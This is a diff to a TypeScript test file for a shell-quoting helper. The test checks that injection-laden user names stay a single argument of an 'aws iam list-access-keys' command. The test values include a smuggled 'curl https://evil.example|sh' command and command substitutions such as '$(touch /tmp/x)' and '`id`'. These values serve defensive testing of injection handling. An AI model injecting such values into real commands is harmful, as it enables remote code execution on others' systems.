@@ -3,6 +3,7 @@ import { readFileSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { printable, shell } from '../../lib/posture/shell';
+import { eachOf } from '../each-of';
 
 const ROOT = join(__dirname, '../..');
 
@@ -14,7 +15,7 @@ function wordsOf(command: string, program = 'sh'): string[] {
 
 const ATTACK = 'AccountBaseline-!;curl https://evil.example|sh;';
 
-test.each([
+eachOf([
   ATTACK,
   '$(touch /tmp/x)',
   '`id`',
@@ -30,7 +31,7 @@ test.each([
   '&&',
   '>x',
   '',
-])('a name such as %s is one word of the command', (name) => {
+])('a name that a shell could read otherwise is one word of the command', (name) => {
   expect(wordsOf(shell`aws iam list-access-keys --user-name ${name} --no-paginate`)).toEqual([
     ...['iam', 'list-access-keys', '--user-name', name, '--no-paginate'],
   ]);
